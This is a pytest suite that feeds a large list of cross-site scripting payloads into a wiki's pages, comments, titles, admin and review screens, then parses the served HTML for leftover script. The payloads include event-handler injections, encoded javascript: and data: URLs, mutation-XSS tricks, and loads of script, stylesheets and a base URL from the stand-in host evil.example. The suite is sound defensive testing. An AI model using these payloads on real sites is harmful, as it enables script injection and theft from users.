"""XSS: hostile input rendered through real saves and served pages, checked by parsing the HTML.

Each payload is saved as a page, previewed, used as an edit summary and posted as a comment;
the served pages are parsed (html.parser, never string matching) and must hold no script but
the site's own, no event handler, no javascript:/vbscript:/data: URL and no style from content.
"""

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from wiki.core.render import render_markdown
from wiki.models import Role

S = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"

PAYLOADS = [
    # Raw HTML (shown as text: raw HTML is off, and nh3 cleans whatever remains)
    S,
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    IMG,
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{x:expression(alert(1))}</style>",
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<img src="x" alt="x"onerror="alert(1)">',
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    '<p style="color:red">x</p>',
    '<span style="background-image:url(javascript:alert(1))">x</span>',
    "<img src=x onerror=alert&#40;1&#41;>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Markdown links with javascript: in all its encodings, and data: URLs
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x](jav\u200bascript:alert(1))",
    "[x](java\x0bscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html,x)",
    '[x](javascript:alert(1) "title")',
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "[x](https://ok.example'onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example/<script>)",
    # Images
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png" onerror="alert(1))',
    '![x](x" onerror="alert(1))',
    # Reference-style links
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)>",
    '[r]\n\n[r]: javascript:alert(1) "t"',
    "![x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    '[x][r]\n\n[r]: https://ok.example "a" onmouseover="alert(1)"',
    # Autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<mailto:x@example.com?subject="><script>alert(1)</script>>',
    '<http://ok.example/"onmouseover="alert(1)>',
    "<https://ok.example/<script>>",
    "<x@example.com>",
    # Wikilinks with quotes and markup
    "[[javascript:alert(1)]]",
    '[[Page" onmouseover="alert(1)]]',
    "[[Page' onmouseover='alert(1)]]",
    f"[[Page|{S}]]",
    f"[[Page|{IMG}]]",
    "[[Page|[x](javascript:alert(1))]]",
    '[["><script>alert(1)</script>]]',
    '[[Page#"><img src=x onerror=alert(1)>]]',
    '[[#" onmouseover="alert(1)]]',
    '[[Category:"><script>alert(1)</script>]]',
    '[[Page|" onmouseover="alert(1)]]',
    "[[:javascript:alert(1)]]",
    "[[Page&quot;onmouseover=alert(1)]]",
    "[[Page|![x](javascript:alert(1))]]",
    # Attribute injection through Markdown extensions, headings, code and tables
    '# Heading {: onclick="alert(1)" }',
    '# x" onmouseover="alert(1)',
    f'# ">{S}',
    "[x](https://ok.example){: onclick=alert(1)}",
    'para\n{: style="color:red" }',
    f"```html\n{S}\n```",
    f"`{S}`",
    '```"><script>alert(1)</script>\nx\n```',
    "```javascript onclick=alert(1)\nx\n```",
    f"| {S} |\n|---|\n| {IMG} |",
    f"> {S}",
    f"- {IMG}\n- [x](javascript:alert(1))",
    f"*{S}*",
    f"[^1]\n\n[^1]: {S}",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    "\u202e<script>alert(1)</script>",
]

SCRIPT_URL = re.compile(r"^(javascript|vbscript|livescript|data):", re.IGNORECASE)
# The site draws its own icons and charts in inline SVG, so <svg> itself is allowed; what
# could run script inside SVG (handlers, script, animations setting URLs) is not.
FORBIDDEN_TAGS = {
    "iframe", "object", "embed", "base", "math", "style", "frame", "frameset", "applet",
    "noscript", "video", "audio", "source", "marquee", "details",
    "foreignobject", "set", "animate", "animatetransform", "animatemotion", "handler",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "background", "poster",
    "to", "from", "values",
}  # fmt: skip


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 80
    assert len(set(PAYLOADS)) == len(PAYLOADS)


class Inspector(HTMLParser):
    """Everything in a served page that could run script or restyle it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list) -> None:
        values = dict(attrs)
        # JSON-LD is a data block browsers never run (tests/test_share.py checks it cannot
        # close its element early).
        data_block = values.get("type") == "application/ld+json"
        if (
            tag == "script"
            and not data_block
            and not (values.get("src") or "").startswith("/static/")
        ):
            self.problems.append("<script> that is not the site's own")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append("<meta http-equiv>")
        href = values.get("href") or ""
        own = href.startswith("/") and not href.startswith("//")
        # The canonical address is absolute, on the site itself (the test client's host).
        canonical = values.get("rel") == "canonical" and href.startswith("http://localhost/")
        if tag == "link" and not (own or canonical):
            self.problems.append("<link> to elsewhere")
        if tag == "form" and not (values.get("action") or "/").startswith("/"):
            self.problems.append("form posting elsewhere")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                # As browsers read URLs (WHATWG): C0 controls and spaces trimmed at the
                # ends, tabs and newlines dropped anywhere.
                squeezed = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(33))))
                if SCRIPT_URL.match(squeezed):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def failures(pairs) -> list[str]:
    return [f"{payload!r}: {found}" for payload, html in pairs if (found := problems(html))]


def test_inspector_catches_what_it_should():
    assert problems(f"<p>{S}</p>")
    assert problems('<a href=" java\tscript:x">x</a>')
    assert problems('<a href="\x01javascript:x">x</a>')
    assert problems('<img src="data:image/png;base64,x">')
    assert problems('<p onclick="x">x</p>') and problems('<p style="x">x</p>')
    assert problems("<svg><set to='javascript:x'></set></svg>")
    assert not problems('<script src="/static/js/editor.js"></script><a href="/wiki/A">A</a>')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_renderer_output_is_safe(payload):
    assert problems(render_markdown(payload).html) == []


@pytest.fixture
def writer(people, login_as):
    """Return a client logged in as writer, an editor."""
    return login_as(people["writer"])


def test_saved_pages_are_safe_when_served(writer):
    served = []
    for number, payload in enumerate(PAYLOADS):
        title = f"Xss {number}"
        response = writer.post(f"/edit/{title}", data={"text": payload, "summary": payload})
        assert response.status_code == 302, (payload, response.status_code)
        served.append((payload, writer.get(f"/wiki/Xss_{number}").get_data(as_text=True)))
    assert failures(served) == []


def test_previews_and_summaries_are_safe(writer):
    served = []
    writer.post("/edit/Summaries", data={"text": "start"})
    for number, payload in enumerate(PAYLOADS):
        preview = writer.post("/edit/Preview", data={"text": payload, "action": "preview"})
        served.append((payload, preview.get_data(as_text=True)))
        writer.post(
            "/edit/Summaries",
            data={"text": f"version {number}", "summary": payload, "base_revision": ""},
        )
    for url in ("/history/Summaries", "/diff/Summaries", "/recent"):
        served.append((url, writer.get(url).get_data(as_text=True)))
    assert failures(served) == []


def test_comments_and_subjects_are_safe(app, writer, make_page):
    make_page("Talk Xss", "text")
    served = []
    for payload in PAYLOADS:
        response = writer.post(
            "/talk/Talk_Xss", data={"subject": payload[:200] or "x", "body": payload}
        )
        assert response.status_code == 302, (payload, response.status_code)
        thread = writer.get(response.headers["Location"])
        served.append((payload, thread.get_data(as_text=True)))
    served.append(("topic list", writer.get("/talk/Talk_Xss").get_data(as_text=True)))
    assert failures(served) == []


HOSTILE_TITLES = [
    "\"'onmouseover=alert(1) x",
    'A & B "quoted"',
    "javascript:alert(1)",
    "x' onfocus='alert(1)",
]


def test_titles_are_escaped_everywhere(writer, make_user):
    served = []
    for title in HOSTILE_TITLES:
        url_title = title.replace(" ", "_")
        assert writer.post(f"/edit/{url_title}", data={"text": "x"}).status_code == 302
        for url in (f"/wiki/{url_title}", f"/history/{url_title}", f"/talk/{url_title}"):
            served.append((url, writer.get(url).get_data(as_text=True)))
    for url in ("/recent", "/search?q=alert", "/search?q=" + S, "/user/writer", "/log"):
        served.append((url, writer.get(url).get_data(as_text=True)))
    assert failures(served) == []


def test_feeds_escape_titles_and_summaries(writer):
    import urllib.parse

    for title in HOSTILE_TITLES:
        writer.post(
            "/edit/" + urllib.parse.quote(title.replace(" ", "_")),
            data={"text": S, "summary": S},
        )
    feed = writer.get("/recent.atom")
    assert feed.status_code == 200
    root = ET.fromstring(feed.get_data())  # well-formed XML: nothing broke out
    texts = [element.text or "" for element in root.iter()]
    assert any(S in text for text in texts)  # the summary arrived as text
    for element in root.iter():
        local = element.tag.rsplit("}", 1)[-1]
        assert local not in ("script", "img", "iframe"), local
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert not SCRIPT_URL.match(value.strip())
    for element in root.iter():
        if element.tag.endswith("content") and element.get("type") == "html":
            assert problems(element.text or "") == []


@pytest.mark.parametrize(
    "username", ['"><script>', "a'b", "x onmouseover=y", "<img>", "java script"]
)
def test_usernames_cannot_carry_markup(client, username):
    response = client.post(
        "/register",
        data={
            "username": username,
            "password": "a fine long passphrase",
            "confirm": "a fine long passphrase",
        },
    )
    assert response.status_code == 400
    assert problems(response.get_data(as_text=True)) == []


def test_admin_pages_escape_reasons(client, make_user, auth):
    make_user("root", role=Role.ADMIN)
    make_user("bob")
    auth.login("root")
    for payload in PAYLOADS[:40]:
        client.post("/admin/users/bob/block", data={"reason": payload, "duration": "1d"})
    pages = [(url, client.get(url).get_data(as_text=True)) for url in (
        "/admin/users/bob", "/admin/blocks", "/log", "/admin/users?q=" + S,
    )]  # fmt: skip
    auth.logout()
    auth.login("bob")
    pages.append(("blocked banner", client.get("/account").get_data(as_text=True)))
    assert failures(pages) == []


def test_review_screens_escape_summaries_reasons_and_authors(app, people, login_as, make_page):
    """Waiting edits' summaries and texts, rejection reasons (in the history and in the
    authors' notifications), on /review, the review screen and the page's notice."""
    from tests.helpers import page_named, save
    from wiki.review import publishing

    make_page("Review Xss", "start")
    app.config["REVIEW_POLICY"] = "all"
    moderator = login_as(people["mod"])
    served = []
    for number, payload in enumerate(PAYLOADS[:20]):
        waiting = save("Review Xss", f"{payload}\n\n{number}", people["newbie"], summary=payload)
        served.append(("review list", moderator.get("/review").get_data(as_text=True)))
        served.append((payload, moderator.get("/review/Review_Xss").get_data(as_text=True)))
        served.append((payload, moderator.get("/wiki/Review_Xss").get_data(as_text=True)))
        reason = payload.strip()[:500] or "empty"
        page = page_named("Review Xss")
        publishing.reject(people["mod"], page, waiting.revision.id, reason)
    served.append(("history", moderator.get("/history/Review_Xss").get_data(as_text=True)))
    newbie = login_as(people["newbie"])
    served.append(("notifications", newbie.get("/notifications").get_data(as_text=True)))
    assert failures(served) == []


def test_translations_and_system_summaries_are_safe(writer):
    """Hostile titles in a translation group, move reasons (a summary's arguments) and
    language fields are shown as text on every languages page."""
    import urllib.parse

    served = []
    for number, title in enumerate(HOSTILE_TITLES):
        source = title.replace(" ", "_")
        url_source = urllib.parse.quote(source)
        writer.post(f"/edit/{url_source}", data={"text": "x"})
        translated = urllib.parse.quote(f"{source} {number}")
        response = writer.get(f"/translate/{url_source}?to=it&new_title={translated}")
        assert response.status_code == 302, (title, response.status_code)
        editor = response.headers["Location"]
        served.append((editor, writer.get(editor).get_data(as_text=True)))
        query = urllib.parse.urlsplit(editor).query
        writer.post(f"/edit/{translated}?{query}", data={"text": S})
        writer.post(f"/edit/{url_source}", data={"text": "changed"})
        writer.post(f"/move/{translated}", data={"new_title": f"Moved {number}", "reason": S})
        for url in (
            f"/wiki/{url_source}",
            f"/wiki/Moved_{number}?lang=it",
            f"/languages/{url_source}",
            f"/history/Moved_{number}",
            f"/translate/{url_source}?to={urllib.parse.quote(S)}&new_title={translated}",
        ):
            served.append((url, writer.get(url).get_data(as_text=True)))
    served.append(("/translations", writer.get("/translations").get_data(as_text=True)))
    served.append(("/recent", writer.get("/recent").get_data(as_text=True)))
    language = writer.post("/languages/Moved_0", data={"action": "language", "content_lang": S})
    assert language.status_code == 400
    served.append(("bad language", language.get_data(as_text=True)))
    assert failures(served) == []


# Escaping happens on the way out, whatever stored the words: one engine is enough for the
# slowest of these (a save, two anchors and six views per payload). NULs, which PostgreSQL
# refuses to store, are sent to every form on both engines by tests/test_fuzz.py.
@pytest.mark.engine("sqlite")
def test_anchored_threads_and_authorship_are_safe(writer):
    served = []
    for number, payload in enumerate(PAYLOADS):
        title = f"Anchor_Xss_{number}"
        text = f"Intro words here. {payload} Closing words here.\n"
        assert writer.post(f"/edit/{title}", data={"text": text}).status_code == 302
        data = {"exact": payload, "prefix": "Intro words here. ", "body": payload}
        anchored = writer.post(f"/anchor/{title}", data=data)
        if anchored.status_code != 302:  # a passage of nothing but spaces cannot be anchored
            served.append((payload, anchored.get_data(as_text=True)))
            data["exact"] = "Closing words"
            anchored = writer.post(f"/anchor/{title}", data=data)
        assert anchored.status_code == 302, (payload, anchored.status_code)
        for url in (f"/wiki/{title}", f"/authorship/{title}", f"/talk/{title}"):
            served.append((payload, writer.get(url).get_data(as_text=True)))
        refused = writer.post(f"/anchor/{title}", data={"exact": payload + "§", "body": payload})
        served.append((payload, refused.get_data(as_text=True)))
        # Anchored again to the payload, and refused words sent back in the form.
        topic_id = anchored.headers["Location"].rsplit("#thread-", 1)[1]
        moved = writer.post(f"/reanchor/{topic_id}", data={"exact": payload, "prefix": "Intro"})
        assert moved.status_code in (302, 400), (payload, moved.status_code)
        refused = writer.post(f"/reanchor/{topic_id}", data={"passage": payload + "§"})
        served.append((payload, refused.get_data(as_text=True)))
        for url in (f"/reanchor/{topic_id}", f"/talk/{title}/{topic_id}", "/log?action=reanchor"):
            served.append((payload, writer.get(url).get_data(as_text=True)))
    assert failures(served) == []
